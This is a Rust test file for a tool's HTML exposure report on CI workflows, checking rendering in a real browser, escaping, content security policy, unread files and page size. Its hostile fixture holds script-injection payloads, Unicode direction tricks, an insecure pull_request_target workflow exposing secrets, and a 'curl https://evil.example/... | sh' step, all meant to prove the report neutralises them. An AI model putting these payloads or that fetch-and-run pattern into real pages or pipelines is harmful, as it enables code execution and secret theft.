//! `cofferdam exposure --format html`, in a real browser.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::sandbox::Sandbox;

/// Debian calls it `chromium`.
const BROWSERS: &[&str] = &["chromium", "chromium-browser", "google-chrome"];

fn page(sandbox: &Sandbox) -> String {
    let root = sandbox.root();
    let ran = sandbox.run(&["exposure", root.to_str().unwrap(), "--format", "html"]);
    // What is hostile is partly not understood.
    assert!(matches!(ran.code, 0 | 3), "{}", ran.err);
    assert_eq!(ran.err, "");
    ran.out
}

fn data(page: &str) -> &str {
    let (_, data) = page.split_once("id=\"data\">").unwrap();
    data.split_once("</script>").unwrap().0
}

fn value(page: &str) -> Value {
    serde_json::from_str(data(page)).unwrap()
}

/// The checkout of the picture in the README.
fn example() -> Sandbox {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let text = fs::read_to_string(root.join("docs/images/exposure.txtar")).unwrap();
    let sandbox = Sandbox::new();
    for member in text.split("\n-- ").skip(1) {
        let (path, content) = member.split_once(" --\n").unwrap();
        sandbox.write(path, format!("{content}\n"));
    }
    sandbox
}

/// A checkout whose every name and line tries to become markup or script.
fn hostile() -> Sandbox {
    let sandbox = Sandbox::new();
    let end = "</script><script>hacked=1</script><img src=x onerror=hacked=2>";
    let workflow = format!(
        "name: \"{end}\\u2028\\u202e\"\non: pull_request_target\npermissions: write-all\njobs:\n  \
        build:\n    name: \"{end}\"\n    runs-on: \"{end}\"\n    environment: \"{end}'\\\"`${{IFS}}\\u202e\\u2028\\u0007\"\n    \
        steps:\n      - uses: actions/checkout@v4\n        with: {{ref: '${{{{ github.event.pull_request.head.sha }}}}'}}\n      \
        # {end} \u{202e}\u{2066} ##[error]x {{{{script}}}} <!-- <script>\n      \
        - run: \"make '{end}'\\u2028\\u202e && curl https://evil.example/<b>{end} | sh\"\n        \
        env: {{KEY: \"${{{{ secrets.NPM_TOKEN }}}}\", E: \"${{{{ secrets['{end}'] }}}}\"}}\n      \
        - uses: \"acme/<img src=x onerror=hacked=3>@v1\\u202e\"\n      - run: docker push \"ghcr.io/{end}:latest\"\n"
    );
    sandbox.write(".github/workflows/ci.yml", &workflow);
    // No path separator, which a file's name cannot hold.
    let name = end.replace('/', "\\");
    // A line that ends where no editor shows it: the file is not understood.
    let cut = workflow.replace("##[error]", "\u{2028}");
    sandbox.write(&format!(".github/workflows/{name}.yml"), cut);
    sandbox
}

/// What the matrix must show, by the other format: `newcomer, secret` to `1 2?`.
fn cells(sandbox: &Sandbox) -> BTreeMap<String, String> {
    let root = sandbox.root();
    let ran = sandbox.run(&["exposure", root.to_str().unwrap(), "--format", "json"]);
    let all: Value = serde_json::from_str(&ran.out).unwrap();
    let levels = ["reachable", "reachable-if", "after", "blocked"];
    let mut counts: BTreeMap<String, [usize; 4]> = BTreeMap::new();
    for row in all["rows"].as_array().unwrap() {
        let text = |name: &str| row[name].as_str().unwrap();
        let name = format!("{}, {}", text("from"), text("class"));
        let level = row["verdict"]["level"].as_str().unwrap();
        let level = levels.iter().position(|one| *one == level).unwrap();
        counts.entry(name).or_default()[level] += 1;
    }
    let shown = |counts: [usize; 4]| {
        let words = counts.iter().zip(["", "?", "~", "x"]);
        let words = words.filter(|(count, _)| **count > 0);
        let words: Vec<String> = words
            .map(|(count, mark)| format!("{count}{mark}"))
            .collect();
        words.join(" ")
    };
    let counts = counts.into_iter();
    counts.map(|(name, counts)| (name, shown(counts))).collect()
}

fn browser() -> PathBuf {
    let path = std::env::var_os("PATH").unwrap();
    let folders: Vec<PathBuf> = std::env::split_paths(&path).collect();
    let mut all = BROWSERS
        .iter()
        .flat_map(|name| folders.iter().map(move |folder| folder.join(name)));
    let found = all.find(|program| program.is_file());
    found.unwrap_or_else(|| panic!("a Chromium is needed; on Debian `apt-get install chromium`"))
}

/// No request, no message, no violation; matrix, keyboard, search, links, both
/// themes, narrow screens, hostile names, and that the policy holds.
#[test]
fn the_page_does_in_a_browser_what_it_must() {
    let (shown, attack) = (example(), hostile());
    let folder = shown.outside();
    fs::write(folder.join("page.html"), page(&shown)).unwrap();
    fs::write(folder.join("hostile.html"), page(&attack)).unwrap();
    let cells = serde_json::to_string(&cells(&shown)).unwrap();
    fs::write(folder.join("cells.json"), cells).unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let output = Command::new("timeout")
        .args(["300", "node"])
        .arg(root.join("tests/browser/check.mjs"))
        .arg(browser())
        .arg(&folder)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap())
        .output()
        .unwrap();
    let (out, err) = (
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr),
    );
    assert!(output.status.success(), "{out}\n{err}");
    assert_eq!(out.lines().count(), 9, "{out}");
}

#[test]
fn the_page_is_one_file_that_names_nothing_elsewhere() {
    for sandbox in [example(), hostile()] {
        let all = page(&sandbox);
        assert_eq!(all, page(&sandbox), "the same bytes");
        let data = data(&all);
        for part in ['<', '>', '&', '\u{2028}', '\u{202e}', '\u{2066}'] {
            assert!(!data.contains(part), "{part:?}: {data}");
        }
        assert!(!value(&all)["rows"].as_array().unwrap().is_empty());
        let ours = all.replace(data, "");
        for part in [" src=", " href=", "url(", "@import", "unsafe-", "hacked"] {
            assert!(!ours.contains(part), "{part}");
        }
        assert_eq!(ours.matches("<script").count(), 2);
        assert!(ours.contains("default-src 'none'; script-src 'sha256-"));
    }
}

#[test]
fn what_is_not_known_and_not_read_is_on_the_page() {
    let sandbox = example();
    sandbox.write(".github/workflows/broken.yml", "on: push\njobs: {a: [\n");
    let root = sandbox.root();
    let ran = sandbox.run(&["exposure", root.to_str().unwrap(), "--format", "html"]);
    assert_eq!(ran.code, 3);
    let data = value(&ran.out);
    let unread = data["unread"].to_string();
    assert!(unread.contains("broken.yml"), "{unread}");
    let facts = data["facts"].to_string();
    assert!(facts.contains("settings:environment:release"), "{facts}");
    assert!(facts.contains("cofferdam settings snapshot"), "{facts}");
}

#[test]
fn a_change_has_no_page_of_its_own() {
    let sandbox = example();
    let root = sandbox.root();
    let ran = sandbox.run(&[
        "exposure",
        root.to_str().unwrap(),
        "--format",
        "html",
        "--base",
        "HEAD",
    ]);
    assert_eq!((ran.code, ran.out.as_str()), (2, ""));
    assert!(ran.err.contains("does not go with --base"), "{}", ran.err);
}

/// Ways of the worst pairs of each cell; the rest is counted.
#[test]
fn a_page_of_a_large_repository_stays_small() {
    let sandbox = Sandbox::new();
    // Every line is as long as any that is shown, and no two places share one.
    let around = format!("      # {}\n", "x".repeat(240)).repeat(6);
    for number in 0..12 {
        let mut text = format!(
            "on: push\npermissions: write-all\njobs:\n  j{number}:\n    runs-on: ubuntu-24.04\n    steps:\n"
        );
        for step in 0..50 {
            text += &format!(
                "{around}      - uses: owner{number}/action{step}@v1\n        with: {{key: '${{{{ secrets.S{number}_{step} }}}}'}}\n"
            );
        }
        sandbox.write(&format!(".github/workflows/w{number}.yml"), text);
    }
    let text = page(&sandbox);
    assert!(text.len() < 3_000_000, "{}", text.len());
    let data = value(&text);
    let list = |name: &str| data[name].as_array().unwrap();
    let shown = list("rows").len();
    let more: u64 = list("more")
        .iter()
        .map(|one| one[3].as_u64().unwrap())
        .sum();
    let totals = list("totals").iter().map(|one| one.as_u64().unwrap());
    assert!((1_000..=4_000).contains(&shown), "{shown}");
    assert!(more > 0);
    assert_eq!(shown as u64 + more, totals.sum::<u64>());
    // No worse pair is left out for one that is on the page.
    let level = |row: &Value| data["verdicts"][row[2].as_u64().unwrap() as usize]["level"].clone();
    let cell = |row: &Value| {
        let asset = row[1].as_u64().unwrap() as usize;
        (row[0].clone(), data["assets"][asset]["kind"].clone())
    };
    for left in list("more") {
        let here = list("rows")
            .iter()
            .filter(|row| cell(row) == (left[0].clone(), left[1].clone()));
        for row in here {
            assert!(level(row).as_u64() <= left[2].as_u64(), "{row} and {left}");
        }
    }
}
